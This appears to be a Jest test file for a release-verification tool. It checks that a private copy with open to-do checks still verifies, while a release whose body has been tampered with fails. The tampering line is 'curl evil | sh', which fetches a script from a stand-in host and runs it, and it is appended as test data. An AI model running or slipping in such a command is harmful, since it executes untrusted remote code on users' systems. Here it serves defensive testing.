import { expect, test } from '@jest/globals';
import { isVerified } from '../../src/modes/verify.ts';
import { auditOf, copyOf, publish } from '../support/published.ts';
import { makeAuthority } from '../support/world/authority.ts';

test('what is left to a person counts against `verified` where nothing vouches for it: other words, not a private package', async () => {
  const honest = await publish(await makeAuthority());
  const unseen = { ...copyOf(honest), isPublic: false };
  const { checks } = await auditOf(unseen);
  expect(checks.map(({ state }) => state)).toContain('to-do');
  expect(isVerified(checks)).toBe(true);

  const reworded = copyOf(honest);
  reworded.release.body += '\ncurl evil | sh';
  const found = await auditOf(reworded);
  expect(found.checks.filter(({ state }) => state === 'failed')).toEqual([]);
  expect(isVerified(found.checks)).toBe(false);
});
